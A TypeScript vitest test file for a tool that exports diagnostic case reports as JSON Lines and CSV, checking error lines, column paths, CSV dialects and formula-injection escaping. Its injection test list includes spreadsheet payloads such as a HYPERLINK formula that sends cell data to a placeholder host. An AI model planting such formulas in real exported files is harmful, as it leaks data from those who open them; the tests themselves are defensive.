import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { validateCase } from '../../machines/case/readCase.ts';
import { buildReport } from '../../machines/report/buildReport.ts';
import type { Report } from '../../machines/report/report.ts';
import { summaryOf } from '../../machines/report/reportSummary.ts';
import { summaryColumns } from '../../machines/report/summaryColumns.ts';
import type { AnswerOf } from '../../src/batch/answer.ts';
import { type CsvDialect, plainDialect } from '../../src/batch/csvCases.ts';
import { csvHeader, csvLine, csvRow, writeJsonLine } from '../../src/batch/resultText.ts';
import { seed } from '../machines/case/anyCase.ts';
import { contractExample } from '../machines/case/contractExample.ts';
import { written } from './written.ts';

const read = validateCase(JSON.parse(contractExample));
if (!read.ok) throw new Error('The example of the contract is refused.');
const report = buildReport(read.case);
const german: CsvDialect = { separator: ';', decimal: ',', lineBreak: '\n', byteOrderMark: true };
const rowsOf = (text: string, delimiter: string): readonly (readonly string[])[] =>
  Papa.parse<readonly string[]>(text, { delimiter, skipEmptyLines: true }).data;

const faulty = {
  ok: false,
  line: 7,
  faults: [
    { path: 'stains.p53', problem: 'x', allowed: ['a', 'b'] },
    { path: '', problem: 'y "z"' },
  ],
} as const;

describe('as JSON Lines', () => {
  test('an answer is the report on one line, or the line and the faults in words', () => {
    const jsonLine = (answer: AnswerOf<Report>): string => written((into) => writeJsonLine(answer, into));
    expect(jsonLine({ ok: true, line: 3, value: report })).toBe(`${JSON.stringify(report)}\n`);
    expect(jsonLine(faulty)).toBe('{"line":7,"errors":["stains.p53: x, allowed: a, b","case: y \\"z\\""]}\n');
  });
});

describe('as CSV', () => {
  const columns = summaryColumns.map(({ name }) => name);

  test('a report is a row below the names of what it holds', () => {
    const text = csvHeader(plainDialect) + csvRow({ ok: true, line: 3, value: summaryOf(report) }, plainDialect);
    const { best, support, interval, unmet } = summaryOf(report);
    expect(rowsOf(text, ',')).toEqual([
      ['line', ...columns, 'errors'],
      [
        '3',
        'free text for the user, no patient identifiers',
        'leiomyosarcomaDermal',
        'Leiomyosarcoma, dermal',
        'diagnosis',
        'provisional',
        unmet.join(' '),
        report.workup.pitfalls.map(({ id }) => id).join(' '),
        report.secondReader.agreement.verdict,
        best,
        `${support}`,
        `${interval[0]}`,
        `${interval[1]}`,
        'G1',
        'headNeck',
        'T1',
        'N0',
        'M0',
        '',
        'true',
        '',
      ],
    ]);
  });

  test('every name of a column that holds one value is a path of the report', () => {
    const values = summaryColumns
      .filter(({ name }) => !['label', 'workup.unmet', 'workup.pitfalls'].includes(name))
      .map(({ name, cell }) => {
        const found = name
          .split('.')
          .reduce<unknown>((value, part) => (value as Record<string, unknown> | null)?.[part], report);
        return [name, `${cell(summaryOf(report))}`, `${found}`];
      });
    expect(values.filter(([, cell, found]) => cell !== found)).toEqual([]);
  });

  test('what is refused has its line and its faults and nothing between', () => {
    const text = csvRow(faulty, german);
    expect(rowsOf(text, ';')).toEqual([['7', ...columns.map(() => ''), 'stains.p53: x, allowed: a, b | case: y "z"']]);
  });

  test('the dialect of the table that was read is kept', () => {
    expect(csvHeader(german).slice(0, 12)).toBe('\ufeffline;label;');
    expect(csvLine([0.25, 'a,b', 'c;d', null, 'e\n'], german)).toBe('0,25;a,b;"c;d";;"e\n"\n');
    expect(csvLine([0.25, 'a,b', 'c;d', null, 'e\n'], plainDialect)).toBe('0.25,"a,b",c;d,,"e\n"\r\n');
  });

  test.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '=1\n+cmd',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
    '=HYPERLINK("http://x/?"&A1)',
  ])('%j is no formula', (label) => {
    const text = csvRow({ ok: true, line: 2, value: { ...summaryOf(report), label } }, plainDialect);
    const [, cell] = rowsOf(text, ',')[0] ?? [];
    expect(cell).toBe(`'${label}`);
  });

  test(`no text gives a cell that begins a formula or breaks out of its cell, seed ${seed}`, () => {
    const sign = fc.constantFrom(...'=+-@\t\r\n＝＋－＠"\',; a'.split(''));
    const anyText = fc
      .array(fc.oneof(sign, fc.string({ maxLength: 3 })), { maxLength: 8 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(anyText, fc.constantFrom(plainDialect, german), (text, dialect) => {
        const [cells = []] = rowsOf(csvLine(['x', text, 'y'], dialect), dialect.separator);
        const safe = /^[=+\-@\t\r\n＝＋－＠]/u.test(text) ? `'${text}` : text;
        expect(cells).toEqual(['x', safe, 'y']);
      }),
      { seed, numRuns: 3000 },
    );
  });
});
